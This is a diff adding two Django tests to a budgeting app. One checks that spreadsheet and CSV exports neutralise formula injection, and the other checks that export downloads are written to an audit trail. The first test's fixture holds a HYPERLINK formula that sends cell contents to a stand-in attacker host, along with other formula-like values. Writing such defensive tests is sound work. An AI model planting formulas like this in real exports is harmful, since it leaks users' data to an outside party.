@@ -383,3 +383,40 @@ def test_team_social_closes_a_period_and_it_takes_no_new_costs(dashboard_world, 
         cost(world, period, "1.00")
     assert "Close this budget period" not in client.get(f"/budget/?period={period.pk}").content.decode()
     assert client_for(world.people["management"]).post(f"/budget/periods/{period.pk}/close/").status_code == 403
+
+
+@pytest.mark.django_db
+def test_a_formula_typed_as_text_stays_text_in_both_exports(world, period, client_for):
+    import csv
+    import io
+
+    from django.urls import reverse
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+    cost(world, period, "10.00", supplier=formula, description="@SUM(1+1)", invoice_number="-2+3")
+    client = client_for(world.people["management"])
+    workbook = load_workbook(io.BytesIO(client.get(reverse("budget_export_xlsx", args=[period.pk])).content))
+    row = next(workbook["Cost lines"].iter_rows(min_row=2))
+    supplier = row[3]
+    assert supplier.data_type == "s" and supplier.value == formula  # text, exactly as typed
+    assert all(cell.data_type != "f" for sheet in workbook for line in sheet.iter_rows() for cell in line)
+    rows = list(csv.reader(io.StringIO(client.get(reverse("budget_export_csv", args=[period.pk])).content.decode())))
+    line = rows[1]
+    assert line[3] == "'" + formula and line[4] == "'@SUM(1+1)" and line[10] == "'-2+3"
+    assert line[6] == "10.00"  # amounts stay numbers
+
+
+@pytest.mark.django_db
+def test_who_took_the_budget_out_is_in_the_audit_trail(world, period, client_for):
+    from django.urls import reverse
+
+    from audit.models import AuditEvent
+
+    client = client_for(world.people["management"])
+    client.get(reverse("budget_export_xlsx", args=[period.pk]))
+    client.get(reverse("budget_export_csv", args=[period.pk]))
+    events = AuditEvent.objects.filter(action="export.downloaded").order_by("sequence")
+    assert [event.details["export"] for event in events] == ["budget.xlsx", "budget.csv"]
+    assert {event.actor for event in events} == {world.people["management"]}
+    assert {event.object_id for event in events} == {str(period.pk)}
